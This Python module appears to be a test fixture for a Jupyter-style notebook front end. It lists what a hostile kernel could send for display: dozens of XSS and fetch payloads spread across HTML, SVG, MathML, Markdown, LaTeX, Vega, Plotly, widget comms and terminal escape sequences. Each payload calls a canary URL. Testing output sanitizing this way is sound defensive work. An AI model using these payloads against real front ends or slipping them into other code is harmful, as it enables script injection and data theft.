"""What a hostile kernel sends to be displayed; ``URL`` is a page whose visit is the proof that it worked."""

# ruff: noqa: E501 - a payload is read best on its line

from __future__ import annotations

import json
from typing import Any

JS = "fetch('URL')"


def _data(**kinds: Any) -> list[tuple[str, Any]]:
    data = {kind.replace("__", "/").replace("_", "."): value for kind, value in kinds.items()}
    return [("display_data", {"data": {"text/plain": "plain", **data}, "metadata": {}, "transient": {}})]


def _mime(kind: str, value: Any, **more: Any) -> list[tuple[str, Any]]:
    content = {"data": {"text/plain": "plain", kind: value}, "metadata": {}, "transient": {}, **more}
    return [("display_data", content)]


def _html(text: str) -> list[tuple[str, Any]]:
    return _mime("text/html", text)


PAYLOADS: dict[str, list[tuple[str, Any]]] = {
    "a script in HTML": _html(f"<script>{JS}</script>"),
    "event handlers in HTML": _html(
        f'<img src=x onerror="{JS}"><body onload="{JS}"><details open ontoggle="{JS}">x</details>'
        f'<input autofocus onfocus="{JS}"><video><source onerror="{JS}"></video><div onmouseover="{JS}">x</div>'
    ),
    "javascript: links and forms": _html(
        f'<a href="javascript:{JS}">click</a><a href="java&#09;script:{JS}">click</a>'
        f'<form action="javascript:{JS}"><button>go</button></form><button formaction="javascript:{JS}">b</button>'
        f'<a href="data:text/html,<script>{JS}</script>">click</a>'
    ),
    "frames, objects and embedded pages": _html(
        f'<iframe src="javascript:{JS}"></iframe><iframe srcdoc="<script>{JS}</script>"></iframe>'
        "<iframe src='URL'></iframe><object data='URL'></object><embed src='URL'><portal src='URL'></portal>"
    ),
    "pictures and media from elsewhere": _html(
        "<img src='URL'><img srcset='URL 2x'><video poster='URL' src='URL'></video><audio src='URL' autoplay></audio>"
        "<picture><source srcset='URL'><img></picture><input type=image src='URL'><table background='URL'><tr><td>x</table>"
    ),
    "style sheets that fetch": _html(
        "<style>@import 'URL'; .jp-Notebook{background:url(URL)}</style><link rel=stylesheet href='URL'>"
        "<div style=\"background:url(URL)\">x</div><div style=\"background-image:image-set('URL' 1x)\">y</div>"
    ),
    "a new page by meta, base and link": _html(
        "<meta http-equiv=refresh content='0;url=URL'><base href='URL'><link rel=prefetch href='URL'>"
        "<link rel=preload as=image href='URL'><link rel=dns-prefetch href='URL'>"
    ),
    "SVG in HTML": _html(
        f"<svg onload=\"{JS}\"><script>{JS}</script><image href='URL'/><use href='URL#x'/>"
        f'<animate onbegin="{JS}"/><foreignObject><img src=x onerror="{JS}"></foreignObject></svg>'
    ),
    "MathML and templates that mutate": _html(
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={JS}&gt;">'
        f'</table></math><template><script>{JS}</script></template><noscript><p title="</noscript>'
        f'<img src=x onerror={JS}>">'
    ),
    "an SVG picture with a script": _mime(
        "image/svg+xml",
        f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{JS}\"><script>{JS}</script><image href='URL'/></svg>",
    ),
    "JavaScript as a display": _mime("application/javascript", JS) + _mime("text/javascript", JS),
    "Markdown with HTML, scripts and pictures": _mime(
        "text/markdown",
        f'<script>{JS}</script><img src=x onerror="{JS}"> ![x](URL) [click](javascript:{JS})\n\n'
        f'```mermaid\ngraph TD; A-->B; click A "javascript:{JS}"\n```\n',
    ),
    "LaTeX with links and HTML": _mime(
        "text/latex",
        f'$\\href{{javascript:{JS}}}{{x}}$ $\\require{{html}}\\style{{background:url(URL)}}{{x}}$ $<img src=x onerror="{JS}">$'
        " $\\unicode[URL]{x}\\includegraphics{URL}$",
    ),
    "a Vega plot with a program and data elsewhere": _mime(
        "application/vnd.vega.v5+json",
        {"$schema": "https://vega.github.io/schema/vega/v5.json", "data": [{"name": "a", "url": "URL"}],
         "signals": [{"name": "s", "init": f"window.{JS}"}], "marks": []},
    ) + _mime(
        "application/vnd.vegalite.v5+json",
        {"data": {"url": "URL"}, "mark": "bar", "encoding": {}, "usermeta": {"embedOptions": {"loader": {"baseURL": "URL"}}}},
    ),
    "a Plotly plot with pictures and links elsewhere": _mime(
        "application/vnd.plotly.v1+json",
        {"data": [{"x": [1], "y": [1], "text": f"<a href='javascript:{JS}'>x</a>"}],
         "layout": {"images": [{"source": "URL"}], "title": f"<img src=x onerror={JS}>"}, "config": {"plotlyServerURL": "URL"}},
    ),
    "a widget of a package from elsewhere": [
        ("comm_open", {
            "comm_id": "evil", "target_name": "jupyter.widget",
            "data": {"state": {
                "_model_module": "URL", "_model_name": "M", "_model_module_version": "1", "_view_module": "URL",
                "_view_name": "V", "_view_module_version": "1", "_esm": f"{JS}; export default {{}}", "_css": "@import 'URL'",
            }, "buffer_paths": []},
        }),
        *_mime("application/vnd.jupyter.widget-view+json", {"model_id": "evil", "version_major": 2, "version_minor": 0}),
    ],
    "comms with targets of the front end's": [
        ("comm_open", {"comm_id": f"c{n}", "target_name": target, "data": {"method": "eval", "code": JS}})
        for n, target in enumerate(["jupyter.widget.control", "ipylab", "debugger", "__proto__", "matplotlib"])
    ],
    "kinds that front ends draw with programs": [
        one
        for kind in (
            "application/vnd.bokehjs_exec.v0+json", "application/vnd.holoviews_exec.v0+json", "application/geo+json",
            "application/vnd.jupyter.es6-rich-output", "application/vnd.dash+json", "text/vnd.mermaid",
            "application/vnd.livy.table+json", "application/vnd.code.notebook.error", "application/x-ipynb+json",
        )
        for one in _mime(kind, {"url": "URL", "data": JS, "cells": []} if "json" in kind else JS)
    ],
    "JSON with HTML in its names": _mime("application/json", {f"<img src=x onerror={JS}>": [f"<script>{JS}</script>"] * 3}),
    "another cell's display changed": [
        ("display_data", {"data": {"text/plain": "first"}, "metadata": {}, "transient": {"display_id": "theirs"}}),
        ("update_display_data", {"data": {"text/html": f"<script>{JS}</script>"}, "metadata": {}, "transient": {"display_id": "theirs"}}),
    ],
    "a result and a page with scripts": [
        ("execute_result", {"data": {"text/html": f"<script>{JS}</script>"}, "metadata": {}, "execution_count": 1}),
        ("page", {"data": {"text/html": f"<script>{JS}</script>", "text/plain": "x"}, "start": 0}),
    ],
    "printed HTML, links and terminal orders": [
        ("stream", f"<script>{JS}</script>\x1b]8;;javascript:{JS}\x07click\x1b]8;;\x07 \x1b[31m<img src=x onerror={JS}>\x1b[0m\n"),
        ("stream", "\x1b]1337;File=inline=1:AAAA\x07\x1bP+q544e\x1b\\\n"),
    ],
    "metadata that asks for trust": [
        ("display_data", {
            "data": {"text/html": f"<script>{JS}</script>"}, "transient": {},
            "metadata": {"isolated": False, "trusted": True, "text/html": {"isolated": True}, "application/javascript": {"trusted": True}},
        }),
    ],
}  # fmt: skip


def fill(messages: list[tuple[str, Any]], url: str) -> list[tuple[str, Any]]:
    """With the canary's address in it."""
    text = json.dumps(messages).replace("URL", url)
    return [(str(kind), content) for kind, content in json.loads(text)]
